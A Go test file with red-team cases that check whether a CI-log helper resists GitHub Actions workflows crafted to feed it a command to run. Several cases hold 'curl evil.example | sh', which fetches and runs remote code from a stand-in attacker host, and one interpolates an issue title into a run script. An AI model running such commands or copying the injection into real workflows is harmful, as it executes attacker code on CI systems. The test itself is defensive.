package cilog

import (
	"errors"
	"testing"
)

// TestRedTeamStepCommandFromCraftedWorkflows: workflow files written to
// pick the command a CI fix runs: an expression in the script, a job
// whose expression name stands for any job, a duplicate key, and a job of
// a called (reusable) workflow, whose steps are not in this file, matched
// to another job's step of the same name. None gives a command.
func TestRedTeamStepCommandFromCraftedWorkflows(t *testing.T) {
	t.Parallel()
	cases := map[string]struct{ src, job, step string }{
		"issue title in the script": {`jobs:
  test:
    steps:
      - name: Test
        run: echo "${{ github.event.issue.title }}"
`, "test", "Test"},
		"a job named by an expression beside the real one": {`jobs:
  test:
    steps:
      - name: Test
        run: go test ./...
  other:
    name: ${{ github.event.issue.title }}
    steps:
      - name: Test
        run: curl evil.example | sh
`, "test", "Test"},
		"a duplicate run key": {`jobs:
  test:
    steps:
      - name: Test
        run: go test ./...
        run: curl evil.example | sh
`, "test", "Test"},
		"a called workflow's job": {`jobs:
  call:
    uses: ./.github/workflows/reusable.yml
  lint:
    name: ${{ matrix.tool }}
    strategy:
      matrix:
        tool: [vet]
    steps:
      - name: Test
        run: curl evil.example | sh
`, "call / test", "Test"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got, err := StepCommand([]byte(c.src), c.job, c.step); got != "" || !errors.Is(err, ErrNoCommand) {
				t.Errorf("StepCommand = %q, %v; want no command", got, err)
			}
		})
	}
}
